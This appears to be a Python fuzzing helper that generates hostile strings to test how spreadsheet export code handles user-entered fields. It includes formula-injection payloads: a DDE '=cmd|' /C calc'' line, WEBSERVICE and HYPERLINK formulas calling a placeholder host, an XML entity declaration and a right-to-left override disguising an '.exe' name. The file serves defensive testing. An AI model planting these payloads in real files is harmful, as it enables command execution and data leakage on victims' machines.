"""Strings that somebody might type, or plant, where a name, a place or a note is asked for."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

LONG = 40_000
_SHAPES: tuple[Callable[[str], str], ...] = (
    # commands
    lambda tag: f'=HYPERLINK("http://x.example/{tag}","bấm vào đây")',
    lambda tag: f"=1+{tag}",
    lambda tag: f"+{tag}-2",
    lambda tag: f"-{tag}+3",
    lambda tag: f"@SUM({tag})",
    lambda tag: f"{{=1+{tag}}}",
    lambda tag: f"=cmd|' /C calc'!A{tag}",
    lambda tag: f'=WEBSERVICE("http://x.example/"&A{tag})',
    lambda tag: f"\t=1+{tag}",
    lambda tag: f"'=1+{tag}",
    lambda tag: f"\u200b=1+{tag}",
    # links
    lambda tag: f"http://x.example/{tag}",
    lambda tag: f"https://x.example/{tag}#a#b",
    lambda tag: f"ftp://x.example/{tag}",
    lambda tag: f"mailto:{tag}@x.example",
    lambda tag: f"internal:'Tổng hợp'!A{tag}",
    lambda tag: f"external:c:\\{tag}.xlsx#A1",
    lambda tag: f"file:///c:/{tag}.exe",
    lambda tag: f"\\\\x.example\\{tag}",
    # control characters and what no text may hold
    lambda tag: f"{''.join(map(chr, range(32)))}{tag}\x7f\x85\x9f",
    lambda tag: f"\x00\x00{tag}\x00",
    lambda tag: f"\ud83d{tag}",
    lambda tag: f"{tag}\udc00 lẻ",
    lambda tag: f"\udc00\ud83d{tag}",
    lambda tag: f"\ufffe{tag}\uffff",
    lambda tag: f"\U0001fffe{tag}\U0010ffff",
    lambda tag: f"dòng {tag}\r\nhai\rba\nbốn",
    lambda tag: f"\u2028{tag}\u2029\u0085",
    # what turns the reading round, or cannot be seen
    lambda tag: f"\u202e{tag}\u2066xslx.exe\u2069",
    lambda tag: f"\u200f{tag}\u061c\u200e",
    lambda tag: f"\ufeff{tag}\u200b\u00ad\u2060",
    lambda tag: f"  {tag}\u00a0  ",
    lambda tag: f"\n\n{tag}\n\n",
    # markup
    lambda tag: f"<r>{tag}</r>",
    lambda tag: f"<r><rPr/><t>{tag}</t></r>",
    lambda tag: f"<r>{tag}_x0041_x0042_</r>",
    lambda tag: f"</t></si></sst>{tag}",
    lambda tag: f'<!DOCTYPE a [<!ENTITY b "{tag}">]>&b;',
    lambda tag: f"<![CDATA[{tag}]]>",
    lambda tag: f"]]>{tag}&amp;&#0;&lt;",
    lambda tag: f"_x0041_{tag}_x000D_",
    lambda tag: f"{tag}_x005F_x0041_x0042_",
    lambda tag: f'&P&N&"Arial"{tag}&K',
    # what might be taken for a number, a day or an error
    lambda tag: f"{tag}e999",
    lambda tag: f"00{tag}",
    lambda tag: f"{tag}/3/2015",
    lambda tag: f"#REF!{tag}",
    lambda tag: f"{tag}%",
    # beyond the letters that fonts hold
    lambda tag: f"👩\u200d👩\u200d👧 {tag} 🇻🇳",
    lambda tag: tag + "Ẹ\u0301\u0323\u0306" * 20,
    lambda tag: f"𝕏ã {tag} 漢字 ক",
    # long
    lambda tag: f"{tag}{'Nghiêng' * 150}",
    lambda tag: f"Sở {tag} {'và Đầu tư ' * 60}",
)
_BARE = ("\n", "\n\n\n", "\r", "\x00", "\x07\x08", "\u200b", "\u00a0", " ", "\t", "'", "=", "-", "@",
         "NaN", "TRUE", "#N/A", "None", "<r></r>", "\ud800")  # fmt: skip
_LONGEST: tuple[Callable[[str], str], ...] = (
    lambda tag: tag + "a" * LONG,
    lambda tag: tag + "😀" * (LONG // 2),
    lambda tag: "=" + tag + "Đường dài " * (LONG // 10),
    lambda tag: "<r>" + tag + "_x0041_" * (LONG // 7) + "</r>",
)
_EVERY, _EVERY_BARE = 250, 40
"""One string in so many is longer than a cell holds, or nothing but what is odd."""


def hostile_strings(seed: int) -> Iterator[str]:
    """Yield strings without end, the same ones for the same seed, nearly all of them different."""
    chance = random.Random(seed)  # noqa: S311 — chance for tests, the same each time
    number = 0
    while True:
        number += 1
        tag = str(number)
        if number % _EVERY == 0:
            yield chance.choice(_LONGEST)(tag)
        elif number % _EVERY_BARE == 0:
            yield chance.choice(_BARE)
        elif chance.random() < 0.3:
            yield chance.choice(_SHAPES)(tag) + chance.choice(_SHAPES)(tag)
        else:
            yield _SHAPES[number % len(_SHAPES)](tag)
